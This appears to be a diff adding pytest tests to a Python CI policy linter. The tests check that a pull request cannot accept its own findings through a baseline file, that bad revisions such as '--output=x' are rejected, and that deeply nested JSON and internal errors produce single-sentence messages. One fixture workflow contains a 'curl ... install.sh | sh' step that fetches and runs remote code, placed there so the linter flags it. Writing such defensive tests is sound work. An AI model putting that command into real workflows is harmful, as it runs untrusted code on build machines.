@@ -9,9 +9,12 @@ a file name as an option, or accept the pull request's own findings unseen.
 
 from __future__ import annotations
 
+import json
 import os
 from collections.abc import Callable
 from pathlib import Path
+
+import pytest
 
 from tests.conftest import Repo, Result
 
@@ -97,3 +100,178 @@ def test_sync_refuses_a_github_symlink_out(repo: Repo, run: Run, tmp_path: Path)
     assert result.code == 2, result.out
     assert mergify.read_bytes() == before
     assert [p.name for p in outside.iterdir() if p.name.endswith(".tmp")] == []
+
+
+# --- item 6: a pull request cannot accept its own findings unseen ---------------------
+
+CONFIG = """\
+[project]
+name = "demo"
+version = "0"
+
+[[tool.policytool.forbidden-import]]
+modules = ["pickle"]
+reason = "unsafe"
+"""
+
+HOSTILE_WORKFLOW = """\
+name: ci
+on: [pull_request]
+permissions:
+  contents: read
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - run: curl -sSL https://example.invalid/install.sh | sh
+      - run: pip install requests
+"""
+
+
+def _hostile_pr(repo: Repo, run: Run) -> tuple[str, int]:
+    """A clean base commit, then a pull request adding four findings and a baseline that
+    accepts them; (the base sha, how many findings the baseline accepts)."""
+    repo.write("pyproject.toml", CONFIG)
+    repo.write("ok.py", "import os\n")
+    base = repo.commit("base")
+    repo.write(".github/workflows/ci.yml", HOSTILE_WORKFLOW)
+    repo.write("evil.py", "import pickle\n")
+    repo.commit("pr: the findings")
+    found = run("check", "--format", "json")
+    assert found.code == 1, found.out
+    entries: dict[tuple[str, str, str], int] = {}
+    for f in json.loads(found.out):
+        key = (f["rule"], f["path"], f["message"])
+        entries[key] = entries.get(key, 0) + 1
+    rules = {key[0] for key in entries}
+    assert {"forbidden-import", "action-pin"} <= rules, rules
+    assert len(rules) >= 4, rules  # also the curl | sh and the unpinned install
+    baseline = [
+        {"rule": r, "path": p, "message": m, "count": c} for (r, p, m), c in entries.items()
+    ]
+    repo.write(".policytool-baseline.json", json.dumps(baseline))
+    repo.commit("pr")
+    return base, sum(entries.values())
+
+
+def test_accepted_findings_are_counted_in_every_format(repo: Repo, run: Run) -> None:
+    _base, accepted = _hostile_pr(repo, run)
+    text = run("check")
+    assert text.code == 0
+    assert f"no findings ({accepted} accepted by .policytool-baseline.json) in " in text.out
+    as_json = json.loads(run("check", "--format", "json").out)
+    assert len(as_json) == accepted
+    assert all(f["accepted"] is True for f in as_json)
+    assert {f["accepted_by"] for f in as_json} == {".policytool-baseline.json"}
+    sarif = json.loads(run("check", "--format", "sarif").out)
+    results = sarif["runs"][0]["results"]
+    assert len(results) == accepted
+    for result in results:
+        (suppression,) = result["suppressions"]
+        assert suppression["kind"] == "external"
+        assert suppression["status"] == "accepted"
+    github = run("check", "--format", "github").out
+    assert f"::notice title=policytool baseline::{accepted} findings accepted by" in github
+    markdown = run("check", "--format", "markdown").out
+    assert f"{accepted} accepted by .policytool-baseline.json" in markdown
+
+
+def test_baseline_from_the_base_commit_ignores_the_pull_requests_own_baseline(
+    repo: Repo, run: Run, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    base, accepted = _hostile_pr(repo, run)
+    judged = run("check", "--baseline-from", base, "--format", "json")
+    assert judged.code == 1
+    assert len(json.loads(judged.out)) == accepted
+    assert not any(f.get("accepted") for f in json.loads(judged.out))
+    monkeypatch.setenv("POLICYTOOL_BASELINE_FROM", base)  # what the init workflow sets
+    assert run("check").code == 1
+    assert run("check", "evil.py").code == 1  # a pre-commit hook call too
+    monkeypatch.setenv("POLICYTOOL_BASELINE_FROM", "")  # a push: the work tree's
+    assert run("check").code == 0
+
+
+def test_baseline_from_reads_the_committed_baseline(repo: Repo, run: Run) -> None:
+    _base, accepted = _hostile_pr(repo, run)
+    head = repo.git("rev-parse", "HEAD").strip()
+    (repo.root / ".policytool-baseline.json").unlink()  # the work tree's is not read
+    result = run("check", "--baseline-from", head)
+    assert result.code == 0, result.out
+    shown = f"{accepted} accepted by {head}:.policytool-baseline.json"
+    assert shown in result.out
+
+
+@pytest.mark.parametrize(
+    ("rev", "message"),
+    [
+        ("no-such-rev", "--baseline-from no-such-rev: not a commit of this repository"),
+        ("--output=x", "--baseline-from --output=x: not a commit of this repository"),
+    ],
+)
+def test_baseline_from_a_bad_rev_is_one_sentence(
+    repo: Repo, run: Run, rev: str, message: str
+) -> None:
+    repo.write("pyproject.toml", CONFIG)
+    repo.commit()
+    result = run("check", f"--baseline-from={rev}")
+    assert result.code == 2
+    assert result.err == f"policytool: error: {message}\n"
+    assert not (repo.root / "x").exists()
+
+
+def test_init_workflow_judges_a_pull_request_by_its_base_baseline(repo: Repo, run: Run) -> None:
+    repo.write("pyproject.toml", PYPROJECT)
+    repo.commit()
+    assert run("init").code == 0
+    workflow = repo.read(".github/workflows/pre-commit.yml").decode()
+    assert "POLICYTOOL_BASELINE_FROM: ${{ github.event.pull_request.base.sha }}" in workflow
+    assert 'git fetch --no-tags --depth=1 origin "$POLICYTOOL_BASELINE_FROM"' in workflow
+
+
+# --- item 11: a deeply nested baseline (or any JSON) is one sentence ------------------
+
+
+def test_a_deeply_nested_baseline_is_one_sentence(repo: Repo, run: Run) -> None:
+    repo.write("pyproject.toml", PYPROJECT)
+    repo.write(".policytool-baseline.json", "[" * 100_000)
+    repo.commit()
+    for args in (("check",), ("fix",), ("baseline",)):
+        result = run(*args)
+        assert result.code == 2, args
+        assert result.err == (
+            "policytool: error: .policytool-baseline.json: not a policytool baseline "
+            "(invalid JSON: nested too deeply to parse)\n"
+        ), args
+    head = repo.git("rev-parse", "HEAD").strip()
+    result = run("check", "--baseline-from", head)
+    assert result.err.startswith(f"policytool: error: {head}:.policytool-baseline.json: not a")
+
+
+def test_parse_json_turns_deep_nesting_into_a_value_error() -> None:
+    from policytool.files import parse_json
+
+    with pytest.raises(ValueError, match="nested too deeply"):
+        parse_json("[" * 100_000 + "]" * 100_000)
+    assert parse_json(b'{"a": [1]}') == {"a": [1]}
+
+
+# --- item 17: the internal-error message names no address -----------------------------
+
+
+def test_internal_error_names_no_address(
+    repo: Repo, run: Run, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from policytool.engine import runner
+
+    def broken(*args: object, **kwargs: object) -> None:
+        raise ZeroDivisionError("division by zero")
+
+    repo.write("pyproject.toml", PYPROJECT)
+    repo.commit()
+    monkeypatch.setattr(runner, "run_file_rules", broken)
+    monkeypatch.delenv("POLICYTOOL_DEBUG", raising=False)
+    result = run("check")
+    assert result.code == 2
+    assert "https://" not in result.err
+    assert "please report it to the policytool maintainers with the command you ran" in result.err
